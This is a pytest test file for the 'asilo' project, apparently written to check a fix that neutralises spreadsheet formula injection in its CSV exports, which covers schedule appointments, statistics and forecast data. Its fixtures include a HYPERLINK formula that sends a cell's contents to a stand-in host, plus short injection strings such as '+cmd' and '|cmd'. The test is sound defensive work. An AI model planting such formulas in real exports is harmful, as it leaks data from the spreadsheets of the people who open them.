"""Issue 11, finding 11: spreadsheet formulas (``=``, ``+``, ``-``, ``@`` at the start of a
text cell) are neutralised in every CSV asilo writes; numbers stay numbers. Before, a port or
a name such as ``=HYPERLINK(...)`` passed into ``schedule allocate``'s output and the
statistics exports as it was."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from asilo.csvsafe import safe_cell, safe_text
from asilo.forecast.charts import rows_csv
from asilo.scheduling.csv_io import appointments_csv
from asilo.stats.charts import data_table_csv

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "|cmd", "%0"])
def test_a_text_cell_that_starts_like_a_formula_is_shown_as_text(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -5.5, 3, 0.25, 1e-3, True, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert safe_cell(value) == value


def test_plain_text_is_unchanged() -> None:
    assert safe_text("Hidalgo") == "Hidalgo"
    assert safe_text(None) == ""


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_schedule_allocate_output_neutralises_a_port() -> None:
    from types import SimpleNamespace

    from asilo.scheduling.model import Appointment, SelectedBy

    placed = Appointment("R1", 1, 1, SelectedBy.LOTTERY, 3, FORMULA, date(2023, 6, 5))
    result = SimpleNamespace(appointments=[placed])
    rows = _cells(appointments_csv(result))  # type: ignore[arg-type]
    assert rows[1][2] == "'" + FORMULA


def test_statistics_chart_data_neutralises_text_and_keeps_numbers() -> None:
    rows = _cells(data_table_csv([{"label": FORMULA, "encounters": -5}]))
    assert rows[1] == ["'" + FORMULA, "-5"]


def test_forecast_csv_neutralises_text() -> None:
    rows = _cells(rows_csv([{"series": "@cmd", "value": 1.5}]))
    assert rows[1] == ["'@cmd", "1.5"]
